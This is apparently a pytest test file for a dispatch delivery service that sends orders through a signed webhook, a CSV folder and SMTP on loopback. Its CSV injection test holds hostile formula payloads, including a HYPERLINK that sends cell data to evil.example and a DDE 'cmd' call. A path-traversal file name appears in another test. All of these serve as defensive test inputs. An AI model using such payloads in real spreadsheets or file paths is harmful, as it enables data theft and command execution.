"""Dispatch delivery against real receivers on loopback: a signed webhook, a CSV folder, an SMTP server."""

from __future__ import annotations

import csv
import email
import hashlib
import io
import json
import os
import socket
import threading
import time
from collections import defaultdict
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from email import policy
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, LoginPassword
from sqlalchemy import Engine
from structlog.testing import capture_logs

from delivery.outcomes import Delivered, Failed, Outcome, Retry
from delivery.signing import MemoryNonceStore, SignatureError, verify
from delivery.smtp import SmtpSettings
from delivery.worker import Backoff, OutboxWorker
from routing.delivery import DeliveryTarget, DispatchSender, render_csv, render_email
from store import outbox as store_outbox
from store import queries
from store.outbox import Message

SECRET = "whsec_receiver_0a1b2c3d"
TOPIC = "dispatch.send"


def instruction(number: str, location: str = "DS-GZ", kind: str = "dispatch") -> dict[str, Any]:
    return {
        "number": number, "location": {"code": location, "name": "广州分销仓"}, "kind": kind, "note": None,
        "order": {"channel": "tmall", "external_id": f"T-{number}"}, "carrier_hint": "SF",
        "created_at": "2026-11-22T09:00:00+08:00", "due_at": "2026-11-22T16:00:00+08:00",
        "ship_to": {
            "name": "张三", "phone": "+86 138 0000 0000", "province": "广东省", "city": "广州市",
            "district": "天河区", "street": "体育西路1号", "postal_code": "510000", "country": "CN",
        },
        "lines": [
            {"line_no": 1, "sku": "CUP-500-BL", "description": "保温杯 <蓝色> 500ml", "qty": 2, "uom": "pcs"},
            {"line_no": 2, "sku": "LID-07", "description": "=1+1", "qty": 1.0, "uom": "box"},
        ],
    }  # fmt: skip


def message(payload: dict[str, Any], *, id: int = 1, attempts: int = 0) -> Message:
    key = f"dispatch:{payload['number']}:{payload['kind']}"
    return Message(id, TOPIC, payload["location"]["code"], key, payload, attempts, datetime.now(UTC))


def error(outcome: Outcome, kind: type[Retry | Failed]) -> str:
    assert isinstance(outcome, kind), outcome
    return outcome.error


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


# --- webhook -------------------------------------------------------------------------------------


class Receiver:
    """A warehouse endpoint: checks signatures, keeps one copy per Idempotency-Key, follows a script."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.seen = MemoryNonceStore()
        self.script: list[tuple[int, dict[str, str], bytes, bool]] = []  # status, headers, body, keep
        self.calls: list[tuple[str, bool]] = []  # (idempotency key, signature valid)
        self.requests: list[tuple[dict[str, str], bytes]] = []
        self.kept: dict[str, dict[str, Any]] = {}
        self.order: dict[str, list[str]] = defaultdict(list)
        self.url = ""

    def handle(self, target: str, headers: dict[str, str], body: bytes) -> tuple[int, dict[str, str], bytes]:
        with self.lock:
            key = headers.get("Idempotency-Key", "")
            try:
                verify(SECRET, headers, body, method="POST", target=target, now=time.time(), seen=self.seen)
            except SignatureError as err:
                self.calls.append((key, False))
                return 401, {}, str(err).encode()
            self.calls.append((key, True))
            self.requests.append((headers, body))
            status, extra, reply, keep = self.script.pop(0) if self.script else (200, {}, b"ok", True)
            if keep and key not in self.kept:
                self.kept[key] = json.loads(body)
                self.order[self.kept[key]["location"]["code"]].append(self.kept[key]["number"])
            return status, extra, reply


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with serve_receiver(Receiver()) as state:
        yield state


@contextmanager
def serve_receiver(state: Receiver) -> Iterator[Receiver]:
    """``state`` listening on 127.0.0.1 (its ``url`` set) until the block ends."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            status, headers, reply = state.handle(self.path, dict(self.headers.items()), body)
            self.send_response(status)
            for name, value in {**headers, "Content-Length": str(len(reply))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(reply)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    state.url = f"http://127.0.0.1:{server.server_address[1]}/erpsync/dispatch"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def webhook_sender(url: str, *locations: str, secret: str = SECRET) -> DispatchSender:
    session = requests.Session()
    session.trust_env = False  # no proxy between us and loopback
    target = DeliveryTarget("webhook", url=url, secret=secret)
    return DispatchSender(dict.fromkeys(locations or ("DS-GZ",), target), None, session=session)


def test_each_instruction_arrives_once_signed_compact_and_in_utf8(receiver: Receiver) -> None:
    batch = [message(instruction(f"DI-20261122-00012{n}"), id=n) for n in range(3)]
    with capture_logs() as logs:
        assert webhook_sender(receiver.url)(batch) == [Delivered()] * 3
    assert receiver.calls == [(m.key, True) for m in batch]
    assert [receiver.kept[m.key] for m in batch] == [m.payload for m in batch]
    headers, body = receiver.requests[0]
    assert (headers["Content-Type"], headers["Idempotency-Key"]) == ("application/json", batch[0].key)
    assert body == json.dumps(batch[0].payload, ensure_ascii=False, separators=(",", ":")).encode()
    assert (SECRET in repr(logs), "张三" in repr(logs)) == (False, False)
    assert [entry["event"] for entry in logs] == ["dispatch delivered"] * 3


def test_refusals_fail_with_status_and_a_redacted_excerpt(receiver: Receiver) -> None:
    receiver.script.append((422, {}, b'{"error": "unknown sku CUP-500-BL", "token": "tok-abcdef"}', False))
    [outcome] = webhook_sender(receiver.url)([message(instruction("DI-2"))])
    excerpt = '{"error": "unknown sku CUP-500-BL", "token": "***"}'
    assert outcome == Failed(f"POST {receiver.url} answered 422 Unprocessable Entity: {excerpt}")
    # A receiver holding another secret refuses the signature: 401, a dead letter.
    stranger = webhook_sender(receiver.url, secret="not-the-receivers-secret")
    [outcome] = stranger([message(instruction("DI-3"))])
    refused = f"POST {receiver.url} answered 401 Unauthorized: webhook signature refused: bad signature"
    assert error(outcome, Failed).startswith(refused)
    assert receiver.calls[-1] == ("dispatch:DI-3:dispatch", False)


def test_busy_dead_and_unknown_receivers_are_retried_and_hold_the_batch(receiver: Receiver) -> None:
    receiver.script.append((429, {"Retry-After": "30"}, b"", False))
    outcomes = webhook_sender(receiver.url)([message(instruction(f"DI-1-{n}"), id=n) for n in range(3)])
    assert outcomes[0] == Retry(f"POST {receiver.url} answered 429 Too Many Requests", 30.0)
    assert outcomes[1:] == [Retry("waiting for dispatch:DI-1-0:dispatch to be delivered first")] * 2
    assert len(receiver.calls) == 1
    sender = webhook_sender(f"http://127.0.0.1:{free_port()}/x")
    [unknown, waiting] = sender([message(instruction("DI-4", "DS-XX")), message(instruction("DI-5"))])
    assert unknown == Retry("no dispatch target configured for location 'DS-XX'")
    assert waiting == Retry("waiting for dispatch:DI-4:dispatch to be delivered first")
    [down] = sender([message(instruction("DI-5"))])
    assert "ConnectionError" in error(down, Retry)


def test_an_outage_loses_and_duplicates_nothing_through_the_outbox(
    store_engine: Engine, receiver: Receiver
) -> None:
    numbers = {loc: [f"DI-{loc}-{n}" for n in range(4)] for loc in ("DS-GZ", "DS-SZ")}
    with store_engine.begin() as conn:
        for n in range(4):
            for loc in numbers:
                payload = instruction(numbers[loc][n], loc)
                store_outbox.enqueue(conn, TOPIC, message(payload).key, payload, partition=loc)
    # The third call is kept but its answer is lost: the re-send must not duplicate it.
    receiver.script += [(503, {"Retry-After": "7"}, b"", False), (500, {}, b"", False), (500, {}, b"", True)]
    now = [datetime.now(UTC) + timedelta(seconds=1)]
    sender = webhook_sender(receiver.url, "DS-GZ", "DS-SZ")
    backoff, batches = Backoff(jitter=0), {TOPIC: 3}
    worker = OutboxWorker(
        store_engine, {TOPIC: sender}, clock=lambda: now[0], backoff=backoff, per_partition=batches
    )
    head = message(instruction(numbers["DS-GZ"][0], "DS-GZ")).key
    worker.run_once()
    assert len(receiver.calls) == 2  # each location's head once: 503 for DS-GZ, 500 for DS-SZ
    now[0] += timedelta(seconds=6.9)
    worker.run_once()  # DS-SZ's 2 s backoff is over; DS-GZ's Retry-After: 7 is not
    assert ([key for key, _ in receiver.calls].count(head), len(receiver.calls)) == (1, 3)
    now[0] += timedelta(seconds=0.1)
    worker.run_once()
    assert [key for key, _ in receiver.calls].count(head) == 2
    for _ in range(20):
        now[0] += timedelta(seconds=10)
        worker.run_once()
    assert receiver.order == numbers  # all eight, each kept once, in order per location
    assert all(valid for _, valid in receiver.calls)
    assert len(receiver.calls) == 8 + 3  # three failed calls were sent again, once each
    with store_engine.connect() as conn:
        assert {m.status for m in queries.list_messages(conn, topic=TOPIC)} == {"delivered"}


def test_a_refused_instruction_becomes_a_dead_letter_and_the_location_moves_on(
    store_engine: Engine, receiver: Receiver
) -> None:
    with store_engine.begin() as conn:
        for number in ("DI-6", "DI-7"):
            store_outbox.enqueue(conn, TOPIC, number, instruction(number), partition="DS-GZ")
    receiver.script.append((400, {}, b"line 2: unit 'box' unknown", False))
    worker = OutboxWorker(store_engine, {TOPIC: webhook_sender(receiver.url)})
    worker.run_once()
    worker.run_once()
    with store_engine.connect() as conn:
        [dead] = queries.list_messages(conn, status="failed")
        [done] = queries.list_messages(conn, status="delivered")
    assert (dead.key, done.key) == ("DI-6", "DI-7")
    assert dead.last_error == f"POST {receiver.url} answered 400 Bad Request: line 2: unit 'box' unknown"


# --- CSV -----------------------------------------------------------------------------------------

HEADER = (
    "number,line_no,sku,description,qty,uom,ship_to_name,ship_to_phone,province,city,district,street,"
    "postal_code,carrier_hint,due_at,kind\r\n"
)
SHIP = "张三,'+86 138 0000 0000,广东省,广州市,天河区,体育西路1号,510000,SF,2026-11-22T16:00:00+08:00"


def test_the_csv_has_a_bom_the_exact_header_one_row_per_line_and_no_formulas() -> None:
    rows = f"DI-8,1,CUP-500-BL,保温杯 <蓝色> 500ml,2,pcs,{SHIP},dispatch\r\n"
    rows += f"DI-8,2,LID-07,'=1+1,1,box,{SHIP},dispatch\r\n"
    assert render_csv(instruction("DI-8")) == ("\ufeff" + HEADER + rows).encode()
    blank = instruction("DI-9") | {"ship_to": {"name": None}, "due_at": None, "carrier_hint": None}
    row = render_csv(blank).decode("utf-8-sig").splitlines()[1]
    assert row == "DI-9,1,CUP-500-BL,保温杯 <蓝色> 500ml,2,pcs,,,,,,,,,,dispatch"


def test_no_csv_cell_runs_as_a_formula_and_numbers_stay_numbers() -> None:
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    payload = instruction("DI-11")
    payload["lines"] = [
        {"line_no": n, "sku": text, "description": text, "qty": -2, "uom": "pcs"}
        for n, text in enumerate(hostile, start=1)
    ]
    payload["ship_to"] = payload["ship_to"] | {"name": "=cmd|' /C calc'!A0", "street": "@A1"}
    rows = list(csv.DictReader(io.StringIO(render_csv(payload).decode("utf-8-sig"), newline="")))
    assert [(r["sku"], r["description"]) for r in rows] == [("'" + t, "'" + t) for t in hostile]
    shown = {(r["qty"], r["ship_to_name"], r["street"]) for r in rows}
    assert shown == {("-2", "'=cmd|' /C calc'!A0", "'@A1")}


def csv_sender(folder: Path) -> DispatchSender:
    return DispatchSender({"DS-GZ": DeliveryTarget("csv", folder=folder)}, None)


def test_the_csv_is_written_atomically_into_a_new_folder_idempotently_recalls_apart(tmp_path: Path) -> None:
    folder, payload = tmp_path / "drop" / "ds-gz", instruction("DI-10")
    umask = os.umask(0o022)
    os.umask(umask)
    assert csv_sender(folder)([message(payload)]) == [Delivered()]
    written = folder / "DI-10.csv"
    assert written.read_bytes() == render_csv(payload)
    assert written.read_bytes().startswith(b"\xef\xbb\xbf")
    assert written.stat().st_mode & 0o777 == 0o666 & ~umask  # like any file (mkstemp would give 0o600)
    before = written.stat()
    assert csv_sender(folder)([message(payload, attempts=1)]) == [Delivered()]
    assert (written.stat().st_ino, written.stat().st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    changed = payload | {"note": "gate 3"} | {"due_at": "2026-11-23T10:00:00+08:00"}
    assert csv_sender(folder)([message(changed)]) == [Delivered()]
    assert written.read_bytes() == render_csv(changed) != render_csv(payload)
    recall = payload | {"kind": "recall"}  # a file of its own: it never replaces an unread instruction
    assert csv_sender(folder)([message(recall)]) == [Delivered()]
    assert sorted(os.listdir(folder)) == ["DI-10.csv", "DI-10.recall.csv"]
    assert (folder / "DI-10.recall.csv").read_text("utf-8-sig").splitlines()[1].endswith(",recall")


def test_a_failed_write_is_retried_leaving_the_old_file_and_no_temp_and_bad_names_fail(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "DI-12.csv").write_bytes(b"old")

    def refuse(src: Any, dst: Any) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    [outcome] = csv_sender(tmp_path)([message(instruction("DI-12"))])
    assert outcome == Retry(f"cannot write {tmp_path / 'DI-12.csv'}: Permission denied")
    assert os.listdir(tmp_path) == ["DI-12.csv"]
    assert (tmp_path / "DI-12.csv").read_bytes() == b"old"
    [outcome] = csv_sender(tmp_path / "DI-12.csv")([message(instruction("DI-13"))])
    assert "cannot write" in error(outcome, Retry)  # the folder is a file
    [outcome] = csv_sender(tmp_path)([message(instruction("../../etc/DI-14"))])
    assert "cannot be used as a file name" in error(outcome, Failed)
    assert os.listdir(tmp_path) == ["DI-12.csv"]


# --- e-mail --------------------------------------------------------------------------------------


class Inbox:
    def __init__(self) -> None:
        self.received: list[email.message.EmailMessage] = []
        self.refuse: set[str] = set()
        self.data_reply: str | None = None
        self.logins: list[tuple[bytes, bytes]] = []

    async def handle_RCPT(self, server: Any, session: Any, envelope: Any, address: str, options: Any) -> str:
        if address in self.refuse:
            return "550 5.1.1 mailbox unavailable"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        if self.data_reply:
            return self.data_reply
        self.received.append(email.message_from_bytes(envelope.content, policy=policy.default))
        return "250 Message accepted"

    def authenticate(self, server: Any, session: Any, envelope: Any, mechanism: str, data: Any) -> AuthResult:
        ok = isinstance(data, LoginPassword) and data.password == b"mail-pass-123"
        self.logins.append((data.login, data.password))
        return AuthResult(success=ok, handled=False)


@pytest.fixture
def inbox() -> Iterator[tuple[Inbox, SmtpSettings]]:
    box, port = Inbox(), free_port()
    controller = Controller(
        box, hostname="127.0.0.1", port=port, authenticator=box.authenticate, auth_require_tls=False
    )
    controller.start()
    yield box, SmtpSettings("127.0.0.1", port, "none", sender="dispatch@maker.example", timeout_s=5)
    controller.stop()


def mail_sender(smtp: SmtpSettings | None, to: tuple[str, ...] = ("wh@ds-gz.example",)) -> DispatchSender:
    return DispatchSender({"DS-GZ": DeliveryTarget("email", to=to)}, smtp)


def test_the_email_carries_subject_pick_list_and_csv(inbox: tuple[Inbox, SmtpSettings]) -> None:
    box, smtp = inbox
    payload = instruction("DI-20261122-000123")
    assert mail_sender(smtp)([message(payload)]) == [Delivered()]
    [mail] = box.received
    assert (mail["From"], mail["To"]) == ("dispatch@maker.example", "wh@ds-gz.example")
    assert mail["Subject"] == "[erpsync] Dispatch DI-20261122-000123 — 2 line(s) for 广州分销仓"
    digest = hashlib.sha256(b"dispatch:DI-20261122-000123:dispatch").hexdigest()[:32]
    assert mail["Message-ID"] == f"<{digest}@erpsync>"
    html = mail.get_body(("html",)).get_content()
    text = mail.get_body(("plain",)).get_content()
    for needle in ("CUP-500-BL", "LID-07", "体育西路1号", "2026-11-22 16:00 (UTC+08:00)", "张三"):
        assert (needle in html, needle in text) == (True, True), needle
    assert ("保温杯 &lt;蓝色&gt; 500ml" in html, "<蓝色>" in html) == (True, False)  # escaped
    [attachment] = list(mail.iter_attachments())
    assert attachment.get_filename() == "DI-20261122-000123.csv"
    assert attachment.get_content_type() == "text/csv"
    assert attachment.get_payload(decode=True) == render_csv(payload)
    # Sent again (a lost reply from the server): same Message-ID, so the receiver can keep one copy.
    mail_sender(smtp)([message(payload, attempts=1)])
    assert [m["Message-ID"] for m in box.received] == [f"<{digest}@erpsync>"] * 2
    other = render_email(instruction("DI-16"), smtp, ["a@b.example"], key="dispatch:DI-16:dispatch")
    assert other["Message-ID"] != mail["Message-ID"]


def test_a_recall_is_unmistakable(inbox: tuple[Inbox, SmtpSettings]) -> None:
    box, smtp = inbox
    mail_sender(smtp)([message(instruction("DI-17", kind="recall"))])
    [mail] = box.received
    assert mail["Subject"].startswith("[erpsync] RECALL DI-17")
    assert "RECALL — DO NOT SHIP" in mail.get_body(("html",)).get_content()
    assert mail.get_body(("plain",)).get_content().startswith("*** RECALL — DO NOT SHIP")
    assert next(mail.iter_attachments()).get_filename() == "DI-17.recall.csv"


def test_login_is_used_when_a_username_is_set(inbox: tuple[Inbox, SmtpSettings]) -> None:
    box, smtp = inbox
    good = SmtpSettings(**{**smtp.__dict__, "username": "erpsync", "password": "mail-pass-123"})
    assert mail_sender(good)([message(instruction("DI-18"))]) == [Delivered()]
    bad = SmtpSettings(**{**smtp.__dict__, "username": "erpsync", "password": "wrong-pass-456"})
    [outcome] = mail_sender(bad)([message(instruction("DI-19"))])
    assert outcome == Retry("SMTP login refused (535); check the email: username and password")
    assert (len(box.received), box.logins[0]) == (1, (b"erpsync", b"mail-pass-123"))


@pytest.mark.parametrize(
    ("to", "reply", "expected"),
    [
        ("wh@ds-gz.example", "451 try later", Retry("SMTP 127.0.0.1:{port} answered 451 try later")),
        ("wh@ds-gz.example", "554 spam", Failed("SMTP 127.0.0.1:{port} answered 554 spam")),
        ("gone@ds-gz.example", None, Failed("SMTP server refused every recipient: gone@ds-gz.example")),
    ],
)
def test_smtp_replies_decide_between_retry_and_failure(
    inbox: tuple[Inbox, SmtpSettings], to: str, reply: str | None, expected: Retry | Failed
) -> None:
    box, smtp = inbox
    box.refuse, box.data_reply = {"gone@ds-gz.example"}, reply
    [result] = mail_sender(smtp, (to,))([message(instruction("DI-20"))])
    assert result == type(expected)(expected.error.format(port=smtp.port))


def test_no_smtp_server_listening_or_configured_is_retried() -> None:
    down = SmtpSettings("127.0.0.1", free_port(), "none", timeout_s=2)
    [result] = mail_sender(down)([message(instruction("DI-22"))])
    assert f"SMTP 127.0.0.1:{down.port} unavailable: ConnectionRefusedError" in error(result, Retry)
    [result] = mail_sender(None)([message(instruction("DI-22"))])
    assert result == Retry("e-mail dispatch needs an SMTP server (the email: section)")
